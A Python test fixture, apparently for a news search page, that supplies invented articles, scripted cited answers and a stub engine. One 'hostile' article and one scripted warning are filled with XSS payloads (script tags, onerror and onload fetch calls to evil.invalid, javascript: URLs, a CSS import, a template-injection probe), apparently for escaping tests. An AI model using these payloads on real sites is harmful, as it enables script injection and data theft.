"""A newsroom of a dozen invented articles with scripted answers, for testing the page without the engine.

It yields the real types. Every citation is found by its quote, so offsets are always right; what is not scripted
finds no answer.
"""

from __future__ import annotations

import time
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field, replace

from rag.errors import NoSuchArticle, UsageError
from rag.types import (
    Answer,
    AnswerStatus,
    Article,
    Chip,
    Citation,
    Events,
    Evidence,
    Found,
    Freshness,
    Nearest,
    Origins,
    Passage,
    Scope,
    SearchResult,
    Sentence,
    Stage,
    Status,
)

BRIDGE = Article(
    id="lantern-bridge",
    title="Tarn bridge stays shut after divers find a second crack",
    outlet="Harbour Lantern",
    author="Mira Oldcastle",
    published="2026-11-11T09:14:00+01:00",
    url="https://lantern.example/tarn-bridge",
    kind="report",
    text=(
        "The Tarn bridge will stay closed until the spring, the county said on Wednesday, after divers found a "
        "second crack in its eastern pier.\n\n"
        "The crack is 40 centimetres long and runs below the waterline, county engineer Jon Aker told reporters. "
        "“We will not open a bridge that we would not drive our own children across,” he said.\n\n"
        "Some 9,200 vehicles crossed the bridge each day before it was shut on Oct. 28. Drivers now lose about "
        "25 minutes on the way round by Sandvik.\n\n"
        "Repairs are expected to cost 31 million crowns. 🌉 The county has not said who will pay."
    ),
)
COST = Article(
    id="tribune-cost",
    title="Who pays for the Tarn bridge?",
    outlet="Vale Tribune",
    agency="NPA",
    published="2026-11-12",
    url="https://tribune.example/2026/cost?utm_source=x",
    kind="opinion",
    page="7",
    text=(
        "Thirty-one million crowns is a lot of money for a county that closed two libraries this year.\n"
        "The state owns the road on both banks, and the state should pay for the bridge between them.\n"
        "Until it does, every driver pays with 25 minutes a day."
    ),
)
FERRY = Article(
    id="lantern-ferry",
    title="Free ferry for schoolchildren from Monday",
    outlet="Harbour Lantern",
    published="2026-11-09T17:40:00+01:00",
    url="https://lantern.example/ferry",
    kind="report",
    text=(
        "A ferry will carry schoolchildren across the Tarn free of charge from Monday.\n\n"
        "Sign up for our newsletter\n\n"
        "It leaves Nordby at 7.10 and 7.40 each school day and takes 18 minutes."
    ),
    furniture=((79, 105),),
)
UNDATED = Article(
    id="notice-moorings",
    title="Moorings at Nordby: notice to boat owners",
    outlet="Port of Nordby",
    kind="press_release",
    text="Boats must leave the inner moorings before the ferry service begins. The harbour master decides.",
)
HOSTILE = Article(
    id="hostile",
    title="<img src=x onerror=fetch('http://evil.invalid/t')> ![t](http://evil.invalid/title.png)",
    outlet="[Gazette](javascript:alert(1)) <b>bold</b>",
    author="<script>fetch('http://evil.invalid/author')</script>",
    published="2026-11-10",
    url="javascript:fetch('http://evil.invalid/url')",
    text=(
        "The harvest failed. <img src=x onerror=\"fetch('http://evil.invalid/body')\"> "
        "![pixel](http://evil.invalid/pixel.png) [click](javascript:alert(2)) "
        "<style>@import url(http://evil.invalid/style.css)</style> <iframe src=http://evil.invalid></iframe>\n\n"
        "```mermaid\ngraph TD; A[<img src='http://evil.invalid/mermaid.png'>]\n```\n\n"
        "</div></template><svg onload=fetch('http://evil.invalid/svg')> {{7*7}} \u202egnirts\u202c"
    ),
)


def _feature() -> Article:
    """A feature of 30,000 words whose cited sentence stands near its end."""
    words = (
        "the old mill by the river had stood empty since the floods and nobody in the village went there now"
    )
    paragraph = f"{words.capitalize()}; {words}, and so it went on for years."
    paragraphs = [f"{at + 1}. {paragraph}" for at in range(700)]
    paragraphs[640] = "In the end the mill was sold for 1.4 million crowns to a cooperative of weavers."
    return Article(
        id="feature-mill",
        title="The mill that outlived the river",
        outlet="Vale Tribune",
        published="2026-10-03",
        url="https://tribune.example/mill",
        kind="analysis",
        text="\n\n".join(paragraphs),
    )


MILL = _feature()


@dataclass(frozen=True)
class Script:
    """What one question gets: the outcome, and what each sentence says, on which words of which article it rests."""

    status: AnswerStatus
    rests_on: tuple[tuple[str, tuple[tuple[str, str], ...]], ...] = ()
    chips: tuple[Chip, ...] = ()
    undated_left_out: int = 0
    warnings: tuple[str, ...] = ()


CLOSED = "The Tarn bridge will stay closed until the spring"
SCRIPTS = {
    "Why is the Tarn bridge closed?": Script(
        "answered",
        (
            (
                "The Tarn bridge will stay closed until the spring, the county said on Wednesday, after divers "
                "found a second crack in its eastern pier.",
                (("lantern-bridge", BRIDGE.text[: BRIDGE.text.index("\n")]),),
            ),
            (
                "Repairs are expected to cost 31 million crowns.",
                (
                    ("lantern-bridge", "Repairs are expected to cost 31 million crowns."),
                    ("tribune-cost", "Thirty-one million crowns is a lot of money"),
                ),
            ),
            (
                "It leaves Nordby at 7.10 and 7.40 each school day and takes 18 minutes.",
                (
                    (
                        "lantern-ferry",
                        "It leaves Nordby at 7.10 and 7.40 each school day and takes 18 minutes.",
                    ),
                ),
            ),
        ),
    ),
    "What was the mill sold for?": Script(
        "answered",
        (
            (
                "In the end the mill was sold for 1.4 million crowns to a cooperative of weavers.",
                (("feature-mill", "In the end the mill was sold for 1.4 million crowns"),),
            ),
        ),
    ),
    "Who runs the harbour since last week?": Script(
        "closest",
        (
            ("The harbour master decides.", (("notice-moorings", "The harbour master decides."),)),
            (
                "Until it does, every driver pays with 25 minutes a day.",
                (("tribune-cost", "Until it does, every driver pays with 25 minutes a day."),),
            ),
        ),
        (Chip("from_", "2026-11-02", "last week", "published since 2 Nov"),),
        undated_left_out=3,
    ),
    "Tell me slowly": Script(
        "answered",
        tuple((f"{at}. {CLOSED}.", (("lantern-bridge", CLOSED),)) for at in range(1, 31)),
    ),
    "What happened to the harvest?": Script(
        "answered",
        (("The harvest failed.", (("hostile", HOSTILE.text),)),),
        warnings=("![w](http://evil.invalid/warning.png) <img src=http://evil.invalid/w>",),
    ),
}


@dataclass
class FakeNewsroom:
    """The front door of rag.newsroom as far as the page uses it."""

    articles: dict[str, Article] = field(
        default_factory=lambda: {a.id: a for a in (BRIDGE, COST, FERRY, UNDATED, HOSTILE, MILL)}
    )
    sample: bool = False
    pause: float = 0.0
    warnings: tuple[str, ...] = ()
    asked: list[tuple[str, Scope | None]] = field(default_factory=list)

    def article(self, article_id: str, version: int | None = None) -> Article:
        """The article; raises NoSuchArticle where there is none."""
        if article_id not in self.articles:
            raise NoSuchArticle(article_id, "not in the library")
        return self.articles[article_id]

    def remove(self, ids: Sequence[str]) -> int:
        """Take articles out; returns how many there were."""
        return sum(self.articles.pop(article_id, None) is not None for article_id in ids)

    def withdraw(self, article_id: str) -> None:
        """Mark an article as withdrawn by its outlet."""
        self.articles[article_id] = replace(self.articles[article_id], status="withdrawn")

    def ask_stream(
        self, question: str, scope: Scope | None = None, conversation: Sequence[Answer] = ()
    ) -> Iterator[Events]:
        """Stages, sentences, then the answer; "break" raises, as an engine with a bug would."""
        self.asked.append((question, scope))
        if len(question) > 2000:
            raise UsageError("The question", f"it has {len(question):,} characters", "Ask in at most 2,000.")
        if question == "break":
            raise RuntimeError("secret detail of the inside")
        yield Stage("searching")
        time.sleep(self.pause)
        answer = self._answer(question, SCRIPTS.get(question, Script("no_answer_found")), scope or Scope())
        for sentence in answer.sentences:
            yield Stage("choosing sentences")
            time.sleep(self.pause)
            yield sentence
        yield answer

    def search(self, query: str, scope: Scope | None = None, k: int = 20) -> SearchResult:
        """The first paragraphs of the articles that hold a word of the query."""
        words = {word for word in query.lower().split() if len(word) > 3}
        hits = [a for a in self.articles.values() if any(word in a.text.lower() for word in words)]
        return SearchResult(
            query=query,
            passages=tuple(_found(at, article, words) for at, article in enumerate(hits[:k], 1)),
            total=len(hits),
            scope=scope or Scope(),
            chips=(),
            searched=len(self.articles),
            meaning=0.5,
            sequence=7,
            seconds=0.004,
        )

    def status(self) -> Status:
        """How the library stands."""
        return Status(
            home="/somewhere/.dateline",
            sequence=7,
            articles=len(self.articles),
            passages=40 * len(self.articles),
            meaning=1.0 if self.articles else None,
            undated=1,
            withdrawn=0,
            superseded=0,
            last_added="2026-11-12T06:02:00Z" if self.articles else None,
            oldest="2026-10-03" if self.articles else None,
            newest="2026-11-12" if self.articles else None,
            outlets=tuple(sorted({a.outlet for a in self.articles.values() if a.outlet})),
            mode="extractive",
            embedder="minilm int8",
            fingerprint="abc",
            sample=self.sample,
            read_only=False,
            holder=True,
            indexes=(),
            bytes=1_000_000,
            bytes_free=9_000_000_000,
            versions=(("dateline", "0.1.0"),),
            warnings=self.warnings,
        )

    def close(self) -> None:
        """Nothing to close."""

    def _answer(self, question: str, script: Script, scope: Scope) -> Answer:
        citations: list[Citation] = []
        sentences = []
        for text, rests in script.rests_on:
            numbers = []
            for article_id, quote in rests:
                citations.append(_cite(len(citations) + 1, self._kept(article_id), quote))
                numbers.append(len(citations))
            verbatim = Evidence("verbatim") if script.status == "answered" else None
            sentences.append(Sentence(text, tuple(numbers), evidence=verbatim))
        cited = sorted(c.published for c in citations if c.published)
        answered = script.status == "answered"
        nearest = () if answered or script.rests_on else tuple(map(_near, (FERRY, COST, UNDATED)))
        return Answer(
            id=f"a{len(self.asked)}",
            question=question,
            status=script.status,
            mode="extractive",
            sentences=tuple(sentences) if answered else (),
            citations=tuple(citations),
            answerability=0.9 if answered else 0.3,
            freshness=Freshness(
                newest_cited=cited[-1] if cited and answered else None,
                newest_in_scope="2026-11-12",
                last_added="2026-11-12T06:02:00Z",
                undated_left_out=0 if scope.undated else script.undated_left_out,
                oldest_in_scope="2026-10-03",
            ),
            texts=len({c.article_id for c in citations}) if answered else 0,
            origins=Origins(len(cited), ("NPA",), 1) if answered else None,
            nearest=nearest,
            scope=scope,
            chips=script.chips,
            searched=len(self.articles),
            sequence=7,
            fingerprint="abc",
            timings={"search": 0.004, "write": 0.002},
            warnings=script.warnings,
        )

    def _kept(self, article_id: str) -> Article:
        return next(a for a in (BRIDGE, COST, FERRY, UNDATED, HOSTILE, MILL) if a.id == article_id)


def _cite(number: int, article: Article, quote: str) -> Citation:
    start = article.text.index(quote)
    return Citation(
        number=number,
        article_id=article.id,
        version=article.version,
        title=article.title,
        outlet=article.outlet,
        agency=article.agency,
        kind=article.kind,
        published=article.published,
        url=article.url,
        page=article.page,
        start=start,
        end=start + len(quote),
        quote=quote,
    )


def _near(article: Article) -> Nearest:
    return Nearest(article.id, article.title, article.outlet, article.published)


def _found(at: int, article: Article, words: set[str]) -> Found:
    end = article.text.find("\n") if "\n" in article.text else len(article.text)
    return Found(
        passage_id=at,
        passage=Passage(article.id, article.version, 0, 0, end, ((0, end),)),
        text=article.text[:end],
        title=article.title,
        outlet=article.outlet,
        agency=article.agency,
        kind=article.kind,
        published=article.published,
        url=article.url,
        page=article.page,
        score=1.0 / at,
        dense=0.61 if at % 2 else None,
        sentence=0.58 if at % 2 else None,
        words=float(sum(word in article.text.lower() for word in words)) * 3.1,
        copies=("elsewhere",) if at == 1 else (),
    )
